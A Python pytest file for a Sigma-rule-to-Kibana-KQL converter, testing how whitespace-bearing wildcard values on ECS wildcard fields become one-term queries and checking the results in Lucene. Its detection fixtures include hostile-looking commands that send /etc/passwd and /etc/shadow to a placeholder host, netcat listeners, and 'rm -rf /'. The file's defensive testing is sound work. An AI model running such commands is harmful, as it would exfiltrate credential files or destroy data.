"""KQL wildcard values on fields that are not plain keyword: one term, never split at whitespace.

Kibana sends an unquoted KQL value holding ``*`` as a ``wildcard`` query only on a field whose
one type is ``keyword``; on others (ECS ``wildcard`` fields such as ``process.command_line``)
it sends a ``query_string``, which splits the value at whitespace (docs/kql.md). The backend
writes such a value as its one-term superset, warned, and refuses it under ``not``.

The engine test below models Kibana's translation (kbn-es-query ``functions/is.ts`` and
``node_types/wildcard.ts``) in Python and runs the resulting queries in Apache Lucene 8
(tests/engines/lucene/LuceneRegexVerdicts.java, the field indexed as one keyword term, as a
``wildcard`` field matches whole values): every Sigma match is found, and the old output
matched every event. Last, no kibana-kql query of SigmaHQ's Linux rules gives a ``wildcard``
field a wildcard value the query_string would split.
"""

from __future__ import annotations

import re

import pytest
from helpers import make_rule
from hypothesis import given, settings
from hypothesis import strategies as st
from sigma.collection import SigmaCollection
from test_kql_backend import RULE_ID, WILD, parse_value
from test_lucene_engine import lucene_regex  # noqa: F401  (the Lucene harness fixture)

from taintsigma import ErrorPolicy, convert_rules
from taintsigma.convert.kql.backend import KibanaKqlBackend
from taintsigma.convert.kql.query_string import covers, drop_covered, single_term
from taintsigma.errors import UnsupportedByTarget

PROCESS = {"product": "linux", "category": "process_creation"}
CMD = "process.command_line"
CASELESS = "process.command_line.caseless"  # Elastic Defend's lower-case keyword multi-field


def convert(detection: dict, condition: str = "selection") -> tuple[str, tuple[str, ...]]:
    """The kibana-kql query of a process_creation rule and its warnings."""
    rule = make_rule(detection, condition, logsource=PROCESS, rule_id=RULE_ID)
    report = convert_rules(SigmaCollection([rule]), "kibana-kql")
    [conversion] = report.conversions
    return conversion.query, conversion.warnings


def refusal(detection: dict, condition: str) -> str:
    rule = make_rule(detection, condition, logsource=PROCESS, rule_id=RULE_ID)
    report = convert_rules(SigmaCollection([rule]), "kibana-kql", on_error=ErrorPolicy.COLLECT)
    [error] = report.errors
    return str(error)


def clause(query: str, field: str = CMD) -> str:
    """The ``field:…`` clause that ends the query."""
    head, sep, tail = query.rpartition(f" and {field}:")
    assert sep, query
    return f"{field}:{tail}"


# ---- the backend -----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("key", "value", "expected"),
    [
        ("CommandLine|contains", " --form", "*--form*"),
        ("CommandLine|contains", " --upload-file ", "*--upload-file*"),
        ("CommandLine|startswith", "foo bar", "foo*bar*"),
        ("CommandLine|startswith", " x", "*x*"),  # a trimmed leading space: now one term
        ("CommandLine|contains", "a \t\n\r\u3000 b", "*a*b*"),
        ("CommandLine|endswith", "rm -rf *", "*rm*-rf*"),
        ("CommandLine|contains", "x or y", "*x*or*y*"),  # 'or' without spaces: no keyword
    ],
)
def test_whitespace_in_a_wildcard_value_on_a_wildcard_field_becomes_one_term(
    key: str, value: str, expected: str
) -> None:
    query, warnings = convert({"selection": {key: value}})
    assert clause(query) == f"{CMD}:{expected}"
    assert " " not in clause(query).partition(":")[2]
    [warning] = [w for w in warnings if "query_string" in w]
    assert RULE_ID in warning and "(kibana-kql)" in warning
    assert f"field '{CMD}'" in warning and "may match more events than the rule" in warning


def test_whitespace_the_query_string_does_not_split_on_stays_exact() -> None:
    query, warnings = convert({"selection": {"CommandLine|contains": "a\u000bb\u00a0c"}})
    assert clause(query) == f"{CMD}:*a\\u000bb\\u00a0c*"
    assert not any("query_string" in w for w in warnings)


def test_keyword_fields_keep_their_exact_wildcard_value() -> None:
    query, warnings = convert({"selection": {"Image|contains": " /a b"}})
    assert clause(query, "process.executable") == "process.executable:* /a b*"
    assert not any("query_string" in w for w in warnings)


def test_values_without_wildcards_stay_exact_phrases() -> None:
    query, warnings = convert({"selection": {"CommandLine": "ls -la /tmp"}})
    assert clause(query) == f'{CMD}:"ls -la /tmp"'
    assert not any("query_string" in w for w in warnings)  # (the case note may be there)


def test_one_warning_per_rule_and_field() -> None:
    query, warnings = convert(
        {
            "sel1": {"CommandLine|contains": [" a ", " b "]},
            "sel2": {"CommandLine|contains": " c "},
            "sel3": {"ParentCommandLine|contains": " d "},
        },
        "all of sel*",
    )
    assert "process.command_line:(*a* or *b*)" in query
    assert "process.parent.command_line:*d*" in query
    fields = [w.split("field '")[1].split("'")[0] for w in warnings if "query_string" in w]
    assert fields == [CMD, "process.parent.command_line"]


def test_value_lists_drop_values_another_covers() -> None:
    query, _ = convert({"selection": {"CommandLine|contains": [" -e ", "  -e\t", " -e x"]}})
    assert clause(query) == f"{CMD}:*-e*"
    query, _ = convert({"selection": {"CommandLine|contains|all": [" a b", "a  b", "c"]}})
    assert clause(query) == f"{CMD}:(*a*b* and *c*)"


def test_a_regex_with_whitespace_is_one_deduplicated_superset() -> None:
    query, warnings = convert({"selection": {"CommandLine|re": r"\s-O\s"}})
    assert clause(query) == f"{CMD}:*-O*"  # not 36 values
    assert any("query_string" in w for w in warnings)
    query, _ = convert({"selection": {"CommandLine|re": r"\s-[FTd]\s"}})
    assert clause(query) == f"{CMD}:(*-F* or *-T* or *-d*)"
    query, warnings = convert({"selection": {"CommandLine|re": "-D"}})
    assert clause(query) == f"{CMD}:*-D*" and not warnings  # exact, as before


def test_a_regex_superset_under_not_is_refused_in_one_line() -> None:
    """A regex is case-sensitive: under 'not' neither its superset nor the caseless field."""
    message = refusal(
        {"selection": {"Image|endswith": "/nc"}, "filter": {"CommandLine|re": r"\s-l\s"}},
        "selection and not filter",
    )
    assert RULE_ID in message and f"field '{CMD}'" in message
    assert "target 'kibana-kql'" in message and "under 'not'" in message
    assert "*-l*" in message and "\n" not in message


def test_a_cased_value_under_not_is_refused() -> None:
    message = refusal(
        {"selection": {"Image|endswith": "/nc"}, "filter": {"CommandLine|contains|cased": " -l "}},
        "selection and not filter",
    )
    assert "under 'not'" in message and "\n" not in message


@pytest.mark.parametrize(
    ("values", "expected"),
    [
        (" -l ", f"{CASELESS}:* -l *"),
        ([" -L ", "--listen"], f"{CASELESS}:(* -l * or *--listen*)"),
    ],
)
def test_under_not_plain_values_go_to_the_caseless_keyword_field(values, expected) -> None:
    query, warnings = convert(
        {"selection": {"Image|endswith": "/nc"}, "filter": {"CommandLine|contains": values}},
        "selection and not filter",
    )
    assert query.endswith(f"not {expected}"), query
    assert f"{CMD}:" not in query
    [warning] = [w for w in warnings if "query_string" in w]
    assert CASELESS in warning and "ignore_above" in warning


def test_double_negation_is_no_negation() -> None:
    query, warnings = convert(
        {"selection": {"CommandLine|contains": " -l "}}, "not (not selection)"
    )
    assert "*-l*" in query and warnings


def test_refusal_is_raised_by_the_plugin_backend_too() -> None:
    """A pipeline naming no caseless field (the syslog one) refuses the superset under 'not'."""
    from taintsigma.convert.pipelines import taintsigma_ecs_syslog

    backend = KibanaKqlBackend(taintsigma_ecs_syslog())
    rule = make_rule({"sel": {"process.command_line|contains": " -l "}}, "not sel",
                     rule_id=RULE_ID)
    with pytest.raises(UnsupportedByTarget, match="under 'not'"):
        backend.convert_rule(rule)


# ---- taintsigma.convert.kql.query_string ------------------------------------------------------


def _pattern(text: str) -> tuple[str | None, ...]:
    return tuple(WILD if c == "*" else c for c in text)


def test_single_term_collapses_runs() -> None:
    assert single_term(_pattern("* --x *")) == _pattern("*--x*")
    assert single_term(_pattern("*  *")) == _pattern("*")


@pytest.mark.parametrize(
    ("general", "specific", "expected"),
    [
        ("*-O*", "*-O\u000b*", True),
        ("*-O*", "*-O*", True),
        ("*a*b*", "*ab*", True),
        ("*ab*", "*a*b*", False),
        ("a*", "*a", False),
        ("*", "", True),
        ("x", "x", True),
        ("x", "*", False),
    ],
)
def test_covers(general: str, specific: str, expected: bool) -> None:
    assert covers(_pattern(general), _pattern(specific)) is expected


def _regex(pattern: tuple[str | None, ...]) -> re.Pattern[str]:
    return re.compile("".join(".*" if c is WILD else re.escape(c) for c in pattern), re.S)


PATTERNS = st.text("ab*", max_size=6).map(_pattern)


@settings(max_examples=300, deadline=None)
@given(PATTERNS, PATTERNS, st.lists(st.text("abc", max_size=7), max_size=30))
def test_covers_agrees_with_matching(general, specific, texts) -> None:
    if covers(general, specific):  # every text the specific one matches, the general one too
        for text in texts:
            if _regex(specific).fullmatch(text):
                assert _regex(general).fullmatch(text)
    else:  # a witness: the specific pattern with its '*' as a character neither holds
        witness = "".join("c" if c is WILD else c for c in specific)
        assert _regex(specific).fullmatch(witness) and not _regex(general).fullmatch(witness)


@settings(max_examples=200, deadline=None)
@given(st.lists(PATTERNS, max_size=6), st.lists(st.text("ab", max_size=6), max_size=30))
def test_drop_covered_keeps_the_meaning_of_the_or(values, texts) -> None:
    kept = drop_covered(values)
    assert len(set(kept)) == len(kept) and set(kept) <= set(values)
    for text in texts:
        assert any(_regex(v).fullmatch(text) for v in values) == any(
            _regex(v).fullmatch(text) for v in kept
        )


# ---- Kibana's translation, modelled, run in real Lucene -------------------------------------
# kbn-es-query src/kuery/node_types/wildcard.ts, escapeQueryString: the query_string reserved
# characters get a backslash, whitespace does not.
_QS_RESERVED = re.compile(r'[+\-=&|><!(){}\[\]^"~*?:\\/]')


def to_query_string_query(items: list[str | None]) -> str:
    """wildcard.ts toQueryStringQuery: the value split at its wildcards, each piece escaped
    with escapeQueryString, joined with ``*``."""
    pieces: list[list[str]] = [[]]
    for char in items:
        if char is WILD:
            pieces.append([])
        else:
            pieces[-1].append(char)
    return "*".join(_QS_RESERVED.sub(lambda m: "\\" + m.group(0), "".join(p)) for p in pieces)


def kibana_queries(items: list[str | None], es_types: list[str]) -> list[str]:
    """functions/is.ts toElasticsearchQuery for ``field:value`` (the field in the data view with
    ``es_types``), as LuceneRegexVerdicts lines on the field "v".

    - a lone wildcard: ``exists`` (``isExistsQuery``), here a WildcardQuery ``*``;
    - a wildcard value: ``isKeywordField = field.esTypes?.length === 1 &&
      field.esTypes.includes('keyword')`` → ``wildcard: {value: toQueryStringQuery(value)}``
      (Lucene's WildcardQuery, ``W``); otherwise ``query_string: {fields: [f], query:
      toQueryStringQuery(value)}``, parsed by Lucene's classic QueryParser, both with and
      without splitting plain terms on whitespace (``Q``, ``S``);
    - a literal (quoted or without wildcards): ``term`` / ``match`` of the whole value on a
      keyword-like field: exact, here a WildcardQuery with every character escaped.
    """
    if WILD not in items:
        return ["W\t" + "".join("\\" + c for c in items)]  # type: ignore[operator]
    if all(c is WILD for c in items):
        return ["W\t*"]
    text = to_query_string_query(items)
    if es_types == ["keyword"]:
        return ["W\t" + text]
    return ["Q\t" + text, "S\t" + text]


def kql_values(query: str) -> list[list[str | None]]:
    """The values of the ``process.command_line`` clause ending a query, read with the
    reference parser of KQL literals (tests/test_kql_backend.py)."""
    text = clause(query).partition(":")[2]
    if not text.startswith("("):
        items, end = parse_value(text)
        assert end == len(text), text
        return [items]
    values, i = [], 1
    while True:
        items, i = parse_value(text, i)
        values.append(items)
        if text[i] == ")":
            return values
        assert text[i : i + 4] == " or ", text
        i += 4


COMMAND_LINES = [
    "curl --form a=@/etc/passwd http://h",
    "curl --form",
    "curl\t--form x",
    "curl\n--form x",
    "curl x--form",  # the superset matches it, Sigma does not
    "curl --upload-file /etc/shadow ftp://h",
    "ls -la",
    "--form",
    "nc -l 4444",
    "nc -lvp 4444",
    "nc --listen 4444",
    "wget -O /tmp/x http://h",
    "wget\t-O\t/tmp/x",
    "wget -Ox",
    "foo bar baz",
    "foobar",
    "foo\u3000bar",
    "a\u000bb",
    "x a\u000bb",
    "rm -rf /",
    "curl -F a=@/etc/passwd http://h",
    "curl\t-d\tx",
    "curl -dx",
    "",
]

CASES = [
    ("contains", [" --form"]),
    ("contains", [" --upload-file ", " --form "]),
    ("contains", [" -l "]),
    ("startswith", ["foo bar"]),
    ("contains", ["foo\u3000bar"]),
    ("contains", ["a\u000bb"]),  # not split by the query_string: exact
    ("endswith", ["rm -rf /"]),
    ("re", [r"\s-O\s"]),
    ("re", [r"\s-[FTd]\s"]),
]


def _sigma(modifier: str, values: list[str], text: str) -> bool:
    # Case-sensitive: KQL on keyword and wildcard fields is (docs/kql.md, "Case").
    if modifier == "re":
        return any(re.search(v, text) for v in values)
    test = {"contains": str.__contains__, "startswith": str.startswith,
            "endswith": str.endswith}[modifier]
    return any(test(text, v) for v in values)


def _matches(lucene_regex, queries: list[str]) -> set[int]:  # noqa: F811
    """Documents any of the queries finds (the terms of one KQL value list are ORed)."""
    found: set[int] = set()
    for result in lucene_regex(COMMAND_LINES, queries):
        assert not isinstance(result, str), result
        found |= result
    return found


def _lines(values: list[list[str | None]], es_types: list[str], mode: str) -> list[str]:
    """The harness lines of Kibana's queries for the values; query_string ones in ``mode``."""
    return [q for v in values for q in kibana_queries(v, es_types) if q[0] in ("W", mode)]


@pytest.mark.parametrize(("modifier", "values"), CASES)
def test_kibana_finds_every_sigma_match_and_the_old_output_matched_everything(
    lucene_regex, monkeypatch, modifier: str, values: list[str]  # noqa: F811
) -> None:
    key = f"CommandLine|{modifier}"
    detection = {"selection": {key: values if len(values) > 1 else values[0]}}
    sigma = {i for i, text in enumerate(COMMAND_LINES) if _sigma(modifier, values, text)}
    assert sigma  # the command lines exercise the case
    query, _ = convert(detection)
    new = kql_values(query)
    monkeypatch.setattr(KibanaKqlBackend, "splits_at_whitespace", lambda self, field: False)
    old = kql_values(convert(detection)[0])  # the writer before the fix
    monkeypatch.undo()
    split = any(c in " \t\n\r\u3000" for v in old for c in v if c is not WILD)
    for mode in ("Q", "S"):
        found = _matches(lucene_regex, _lines(new, ["wildcard"], mode))
        assert sigma <= found, (mode, new, sorted(COMMAND_LINES[i] for i in sigma - found))
        if not split:
            assert new == old and found == sigma  # nothing to split: exact, unchanged
            continue
        before = _matches(lucene_regex, _lines(old, ["wildcard"], mode))
        # The old query was wrong: 'foo bar*' ran as 'f:foo OR f:bar*' and missed "foo bar baz".
        assert before != sigma, (mode, old)
        if any(v[:1] == [WILD] and v[1] in " \t\n\r" for v in old):
            # '* x*' runs as 'f:* OR …': every event; under 'not' the rule never fired.
            assert before == set(range(len(COMMAND_LINES))), (mode, old)
    # On a keyword field Kibana's wildcard query keeps whitespace, and the backslashes
    # toQueryStringQuery adds are WildcardQuery escapes: the old exact form is exact there.
    assert _matches(lucene_regex, _lines(old, ["keyword"], "W")) == sigma


# ---- SigmaHQ's Linux rules --------------------------------------------------------------------


def _field_values(query: str, field: str) -> list[list[str | None]]:
    """Every value the query gives ``field`` (``field:value`` and ``field:(a or b …)``)."""
    found = []
    for match in re.finditer(rf"(?<![\w.]){re.escape(field)}:", query):
        i = match.end()
        if query[i] != "(":
            found.append(parse_value(query, i)[0])
            continue
        i += 1
        while True:
            items, i = parse_value(query, i)
            found.append(items)
            if query[i] == ")":
                break
            joiner = re.match(r" (or|and) ", query[i:])
            assert joiner, query[i:]
            i += joiner.end()
    return found


def test_no_sigmahq_query_sends_kibana_a_wildcard_value_it_splits() -> None:
    from taintsigma.convert.ecs import ecs_field_types
    from tests.linux_corpus import corpus_report

    splitting = [name for name, kind in ecs_field_types().items() if kind == "wildcard"]
    report = corpus_report("kibana-kql")
    checked = 0
    for conversion in report.conversions:
        for field in splitting:
            for items in _field_values(conversion.query, field):
                if WILD in items:
                    checked += 1
                    assert not any(c in " \t\n\r\u3000" for c in items if c is not WILD), (
                        conversion.stem, field, items
                    )
    assert checked > 200  # the command-line values of the process_creation rules
    warned = [c for c in report.conversions if any("query_string" in w for w in c.warnings)]
    assert len(warned) == 66  # 60 one-term supersets, 6 values under 'not' on the caseless field
    assert not [e for e in report.errors if "query_string" in str(e)]
    caseless = sorted(c.stem for c in report.conversions if f"{CASELESS}:" in c.query)
    assert caseless == [
        "proc_creation_lnx_chmod_targeting_sensitive_directories",
        "proc_creation_lnx_clear_logs",
        "proc_creation_lnx_rsync_shell_spawn",
        "proc_creation_lnx_services_stop_and_disable",
        "proc_creation_lnx_susp_network_utilities_execution",
        "proc_creation_lnx_susp_sensitive_file_access",
    ]


@pytest.mark.parametrize(
    ("modifier", "values"),
    [(m, v) for m, v in CASES if m != "re" and any(c in " \t\n\r\u3000" for x in v for c in x)],
)
def test_under_not_the_caseless_field_finds_exactly_what_sigma_does(
    lucene_regex, modifier: str, values: list[str]  # noqa: F811
) -> None:
    """Kibana sends a wildcard value on a keyword field as a wildcard query (whitespace kept);
    the field's lowercase normalizer makes its terms lower-case: Sigma's match, ignoring case."""
    key = f"CommandLine|{modifier}"
    query, _ = convert(
        {"selection": {"Image|endswith": "/x"}, "filter": {key: values if len(values) > 1 else values[0]}},
        "selection and not filter",
    )  # fmt: skip
    indexed = [line.lower() for line in COMMAND_LINES]  # the normalizer
    sigma = {i for i, t in enumerate(indexed) if _sigma(modifier, [v.lower() for v in values], t)}
    assert sigma
    queries = [q for v in _field_values(query, CASELESS) for q in kibana_queries(v, ["keyword"])]
    found: set[int] = set()
    for result in lucene_regex(indexed, queries):
        assert not isinstance(result, str), result
        found |= result
    assert found == sigma, (query, sorted(indexed[i] for i in found ^ sigma))
